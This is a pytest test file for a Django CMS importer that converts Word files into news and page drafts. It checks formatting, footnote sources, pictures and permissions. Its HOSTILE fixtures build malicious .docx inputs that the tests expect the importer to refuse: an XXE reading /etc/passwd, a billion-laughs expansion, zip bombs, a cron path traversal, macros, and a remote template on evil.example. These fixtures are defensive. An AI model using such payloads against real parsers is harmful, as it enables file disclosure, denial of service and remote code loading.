"""Drafts that start from a Word file: what arrives, what is reported, and what is refused."""

import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from news.models import NewsItem
from pages.models import Page
from tests.factories import news_form
from tests.tianhe_site.editorial.word_files import (
    OFFICE,
    item,
    link,
    note,
    notes,
    packed,
    paragraph,
    parts,
    picture,
    run,
    table,
    word_file,
)
from tianhe_site.editorial import edit_conflicts
from tianhe_site.editorial.word import conversion
from tianhe_site.media_library.models import Image

pytestmark = pytest.mark.django_db
START = reverse("admin:news_newsitem_start_from_word")


@pytest.fixture
def read(author):
    """Return a function that reads a Word file with this body."""

    def reading(*body, **more):
        return conversion.read(word_file(*body, **more), by=author)

    return reading


@pytest.fixture
def refusal(author):
    """Return a function that returns why a file is refused."""

    def refused(content, name="Release.docx"):
        with pytest.raises(conversion.WordError) as error:
            conversion.read(SimpleUploadedFile(name, content), by=author)
        return str(error.value)

    return refused


def message(key):
    return str(conversion.MESSAGES[key])


def test_structure_arrives(read):
    text = read(
        paragraph("Patent granted", style="Title"),
        paragraph("The office has granted it.", style="Subtitle"),
        paragraph("What it covers", style="heading 1"),
        paragraph("It covers ", run("isolation", "<w:b/>"), " and ", link("use"), "."),
        item("one"),
        item("below one", 1),
        item("first", number=2),
        paragraph("Where", style="heading 2"),
        table(["Country", "Year"], ["China", "2014"]),
        paragraph("Quoted.", style="Quote"),
    )
    assert (text.title, text.summary) == ("Patent granted", "The office has granted it.")
    assert text.body == (
        "<h2>What it covers</h2>"
        '<p>It covers <strong>isolation</strong> and <a href="https://example.org/a">use</a>.</p>'
        "<ul><li>one<ul><li>below one</li></ul></li></ul><ol><li>first</li></ol><h3>Where</h3>"
        "<table><thead><tr><th><p>Country</p></th><th><p>Year</p></th></tr></thead>"
        "<tbody><tr><td><p>China</p></td><td><p>2014</p></td></tr></tbody></table>"
        "<blockquote><p>Quoted.</p></blockquote>"
    )
    assert (text.sources, text.report) == ([], [])


def test_only_main_heading_at_the_top_is_the_title(read):
    text = read(paragraph("News", style="heading 1"), paragraph("Part", style="heading 2"))
    assert (text.title, text.body) == ("News", "<h2>Part</h2>")


def test_file_name_is_the_title_of_a_document_without_one(read):
    text = read(paragraph("Words."), name="Press_release 3.docx")
    assert text.title == "Press release 3"
    assert text.report == ["The document has no title, so the name of the file became the title."]


def test_notes_become_sources_and_the_words_before_them_claims(read):
    text = read(
        paragraph("T", style="Title"),
        paragraph("It is new. In 7 of 20 people it fell.", note(1), " Dr. Li agrees", note(2), "."),
        paragraph("Heading", note(2), style="heading 1"),
        footnotes=notes(
            "Zhao 2012, https://doi.org/10.1186/1741-7015-10-3.", "Letter of 2 March", "unused"
        ),
    )
    assert text.body == (
        '<p>It is new. <mark data-sources="1">In 7 of 20 people it fell.</mark>'
        ' <mark data-sources="2">Dr. Li agrees</mark>.</p><h2>Heading</h2>'
    )
    assert text.sources == [
        {"title": "Zhao 2012", "url": "https://doi.org/10.1186/1741-7015-10-3"},
        {"title": "Letter of 2 March"},
    ]
    assert text.report == [
        "Footnotes and endnotes became 2 sources. The words before their numbers refer to them: "
        "check that they are what each source supports.",
        "1 reference to a source has no words of its own, for example in a heading. Mark the "
        "words that it supports.",
    ]


def test_endnotes_are_sources_too(read):
    text = read(paragraph("Said.", note(1, "endnote")), endnotes=notes("Book", kind="endnote"))
    assert text.body == '<p><mark data-sources="1">Said.</mark></p>'
    assert text.sources == [{"title": "Book"}]


def test_words_of_a_long_note_that_no_source_takes_are_reported(read):
    long = " ".join(f"word{number}" for number in range(100))
    text = read(paragraph("Said.", note(1)), footnotes=notes(long))
    assert text.report[-1] == f"This note doesn't fit into a source: “{long}”"


def test_pictures_go_into_the_library_without_a_description(read):
    text = read(paragraph("Laboratory", style="Title"), paragraph("Look: ", picture(), picture()))
    image = Image.objects.get()
    assert text.body == f'<p>Look:</p><p><img src="image:{image.pk}"></p>' + (
        f'<p><img src="image:{image.pk}"></p>'
    )
    assert (image.title, image.is_described("en")) == ("Laboratory 1", False)
    assert text.report == [
        "1 picture is now in the media library. Describe it for readers who can't see it."
    ]


def test_what_is_left_out_is_reported_and_keeps_its_place_where_a_sentence_needs_it(read):
    math = "<m:oMath><m:r><m:t>x</m:t></m:r></m:oMath>"
    chart = (
        "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><c:chart/></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing></w:r>"
    )
    box = (
        "<w:r><mc:AlternateContent><mc:Choice><w:drawing><wp:inline><w:txbxContent>"
        f"{paragraph('In a box')}</w:txbxContent></wp:inline></w:drawing></mc:Choice>"
        "</mc:AlternateContent></w:r>"
    )
    text = read(
        paragraph("T", style="Title"),
        paragraph("Contents ... 1", style="toc 1"),
        paragraph("If ", math, ", then ", run("crossed", "<w:strike/>"), chart, "."),
        paragraph(run("secret", "<w:vanish/>"), "Said", "<w:r><w:commentReference/></w:r>"),
        paragraph(f"<w:del>{run('old')}</w:del>", f"<w:ins>{run('new')}</w:ins>", box),
        paragraph(
            picture("rEmf"), picture("rLinked"), '<w:r><w:sym w:font="X" w:char="F0"/></w:r>'
        ),
        header1=f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"{paragraph('Draft')}</w:hdr>",
        relationships=f'<Relationship Id="rEmf" Type="{OFFICE}/image" Target="media/a.emf"/>'
        f'<Relationship Id="rLinked" Type="{OFFICE}/image" Target="https://example.org/a.png" '
        'TargetMode="External"/>',
    )
    assert text.body == (
        "<p>If [[equation]], then [[chart]].</p><p>Said</p><p>new</p><p>In a box</p>"
        "<p>[[picture]][[picture]][[symbol]]</p>"
    )
    assert text.report == [
        "1 equation was left out. Write it where the text says [[equation]].",
        "1 chart or diagram was left out. Add a picture of it where the text says [[chart]].",
        "2 pictures in formats that browsers can't show were left out. Add them as PNG or JPEG "
        "where the text says [[picture]].",
        "1 symbol of a special font was left out. Write it where the text says [[symbol]].",
        "1 tracked insertion is in the text. Check that it's wanted.",
        "1 tracked deletion was left out.",
        "1 comment was left out.",
        "1 piece of crossed-out text was left out.",
        "1 piece of hidden text was left out.",
        "1 text box is now a paragraph. Check its place.",
        "The table of contents was left out.",
        "The page headers and footers were left out.",
    ]


def test_link_that_leads_nowhere_is_reported_and_its_words_stay(read):
    text = read(
        paragraph(link("the file", "rDead")),
        relationships=f'<Relationship Id="rDead" Type="{OFFICE}/hyperlink" '
        'Target="file:///C:/a.pdf" TargetMode="External"/>',
    )
    assert text.body == "<p>the file</p>"
    assert text.report[-1] == (
        "The link to 'file:///C:/a.pdf' was removed, because it isn't a full address."
    )


def with_document_type(text):
    found = parts(paragraph("&x;"))
    found["word/document.xml"] = text + found["word/document.xml"].replace("&amp;x;", "&x;")
    return packed(found)


LAUGHS = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "too_large": {
        "bomb": lambda: packed({**parts(), "word/document.xml": b" " * 31 * 1024 * 1024}),
        "bomb elsewhere": lambda: packed({**parts(), "word/x.bin": b" " * 101 * 1024 * 1024}),
        "parts": lambda: packed({**parts(), **{f"x{n}": "" for n in range(10_000)}}),
        "table": lambda: packed(parts(table(*[["-"] * 500] * 500))),
        "nested": lambda: packed(parts("<w:tbl><w:tr><w:tc>" * 100)),
        "long": lambda: packed(parts(*[paragraph("word " * 1000)] * 50)),
    },
    "entities": {
        "external entity": lambda: with_document_type(
            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        ),
        "laughs": lambda: with_document_type(f'<!DOCTYPE d [<!ENTITY x0 "ha">{LAUGHS}]>'),
        "document type elsewhere": lambda: packed(
            {**parts(), "word/_rels/x.rels": '<!DOCTYPE d SYSTEM "http://x.example/"><d/>'}
        ),
    },
    "macros": {
        "program": lambda: packed({**parts(), "word/vbaProject.bin": "x"}),
        "docm": lambda: packed(
            parts(
                content_types='<Override PartName="/word/x.xml" ContentType='
                '"application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            )
        ),
    },
    "external": {
        "template": lambda: packed(
            parts(
                relationships=f'<Relationship Id="x" Type="{OFFICE}/attachedTemplate" '
                'Target="http://evil.example/x.dotm" TargetMode="External"/>'
            )
        ),
        "object on another computer": lambda: packed(
            parts(
                relationships=f'<Relationship Id="x" Type="{OFFICE}/oleObject" '
                r'Target="file:///\\evil\x" TargetMode="External"/>'
            )
        ),
    },
    "damaged": {
        "path": lambda: packed({**parts(), "../../etc/cron.d/x": "x"}),
        "cut off": lambda: packed(parts(paragraph("Words")))[:-40],
        "not XML": lambda: packed({**parts(), "word/document.xml": "<w:document>"}),
        "no document": lambda: packed(
            {name: text for name, text in parts().items() if name != "word/document.xml"}
        ),
    },
    "encrypted": {
        "password": lambda: (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
        ),
    },
    "old_word": {"doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1WordDocument"},
    "not_word": {
        "picture": lambda: b"\x89PNG\r\n\x1a\n",
        "other zip": lambda: packed({"a.txt": "x"}),
        "spreadsheet": lambda: packed(
            {**parts(), "[Content_Types].xml": "<Types><Override ContentType='sheet'/></Types>"}
        ),
    },
}


@pytest.mark.parametrize(
    ("key", "name"), [(key, name) for key, files in HOSTILE.items() for name in files]
)
def test_hostile_file_is_refused_with_a_sentence(refusal, key, name):
    assert refusal(HOSTILE[key][name]()) == message(key)
    assert not Image.objects.exists()


def test_one_picture_in_a_thousand_places_is_read_until_it_is_too_much(author):
    made = parts(*(paragraph("Look: ", picture()) for _place in range(1000)))
    [name] = [each for each in made if each.startswith("word/media/")]
    made[name] += bytes(8 * 1024 * 1024)
    text = conversion.read(SimpleUploadedFile("a.docx", packed(made)), by=author)
    # 100 MB, and the one that crosses that.
    assert text.body.count("[[picture]]") == 1000 - 13


def test_template_on_the_writers_own_computer_is_no_reason_to_refuse(read):
    text = read(
        paragraph("Words."),
        relationships=f'<Relationship Id="x" Type="{OFFICE}/attachedTemplate" '
        'Target="file:///C:/Users/li/Normal.dotm" TargetMode="External"/>',
    )
    assert text.body == "<p>Words.</p>"


def test_stored_parts_are_read_like_compressed_ones(author):
    content = packed(parts(paragraph("Words.")), zipfile.ZIP_STORED)
    text = conversion.read(SimpleUploadedFile("a.docx", content), by=author)
    assert text.body == "<p>Words.</p>"


def test_file_that_is_too_large_is_refused_before_anything_reads_it(refusal, settings):
    settings.MEDIA_MAX_BYTES = 1000
    assert refusal(b"x" * 1001).startswith("This file is larger than 1000\xa0bytes.")


def test_disk_that_takes_no_file_gives_a_sentence(refusal, settings, tmp_path):
    (tmp_path / "uploads").write_text("no folder")
    settings.DATA_DIR = tmp_path
    assert refusal(packed(parts())).startswith("The file storage isn't responding")


def test_child_that_takes_too_long_gives_a_sentence(refusal, monkeypatch):
    monkeypatch.setattr(conversion, "WORD_COMMAND", ["sleep", "9"])
    monkeypatch.setattr(conversion, "TIMEOUT_SECONDS", 0.1)
    assert refusal(packed(parts())) == message("too_heavy")


def test_author_starts_a_draft_from_a_word_file_by_clicks(client, author):
    client.force_login(author)
    form = client.get(reverse("admin:news_newsitem_add")).content.decode()
    assert f'<a href="{START}?language=en" >Word file…</a>' in form
    assert "Make draft" in client.get(START).content.decode()
    upload = word_file(
        paragraph("Patent granted", style="Title"),
        paragraph("Said.", note(1), run("old", "<w:strike/>")),
        footnotes=notes("Patent EP1234567"),
    )
    response = client.post(START, {"file": upload}, follow=True)
    draft = NewsItem.objects.get()
    assert response.redirect_chain == [
        (reverse("admin:news_newsitem_change", args=[draft.pk]), 302)
    ]
    assert (draft.title, draft.slug, draft.category) == ("Patent granted", "patent-granted", None)
    assert draft.body == '<p><mark data-sources="1">Said.</mark></p>'
    assert draft.sources == [{"title": "Patent EP1234567"}]
    assert "1 piece of crossed-out text was left out." in response.content.decode()


def test_report_stays_until_the_draft_is_saved(client, author):
    client.force_login(author)
    client.post(START, {"file": word_file(paragraph(run("old", "<w:strike/>"), "new"))})
    draft = NewsItem.objects.get()
    url = reverse("admin:news_newsitem_change", args=[draft.pk])
    left_out = "1 piece of crossed-out text was left out."
    for _time in range(2):
        assert left_out in client.get(url).content.decode()
    client.post(url, news_form(opened=edit_conflicts.version(draft)))
    assert left_out not in client.get(url).content.decode()


def test_long_title_is_shortened_and_its_words_open_the_text(client, author):
    client.force_login(author)
    title = "The office has granted a patent " * 5
    response = client.post(START, {"file": word_file(paragraph(title, style="Title"))}, follow=True)
    draft = NewsItem.objects.get()
    assert draft.title == (
        "The office has granted a patent The office has granted a patent The office has granted a…"
    )
    assert draft.body == f"<p>{title.strip()}</p>"
    assert "The title has more than 90 characters." in response.content.decode()


def test_second_file_of_the_same_title_gets_another_address(client, author):
    client.force_login(author)
    for _time in range(2):
        client.post(START, {"file": word_file(paragraph("Patent", style="Title"))})
    assert [*NewsItem.objects.order_by("pk").values_list("slug", flat=True)] == [
        "patent",
        "patent-2",
    ]


def test_page_starts_from_a_word_file_too(client, author):
    client.force_login(author)
    upload = word_file(paragraph("About us", style="Title"), paragraph("Words."))
    client.post(reverse("admin:pages_page_start_from_word"), {"file": upload})
    assert [(page.title, page.path_for(), page.body) for page in Page.objects.all()] == [
        ("About us", "/about-us/", "<p>Words.</p>")
    ]


def test_refused_file_leaves_the_form_with_the_reason_and_no_draft(client, author):
    client.force_login(author)
    response = client.post(START, {"file": SimpleUploadedFile("a.docx", b"x")})
    assert message("not_word").replace("'", "&#x27;") in response.content.decode()
    assert "Choose a Word file (.docx)." in client.post(START).content.decode()
    assert not NewsItem.objects.exists()


def test_reviewer_may_not_start_a_draft(client, reviewer):
    client.force_login(reviewer)
    assert client.get(START).status_code == 403


def test_site_details_have_no_text_to_start_from(client, publisher):
    client.force_login(publisher)
    assert client.get(reverse("admin:pages_sitedetails_start_from_word")).status_code == 403
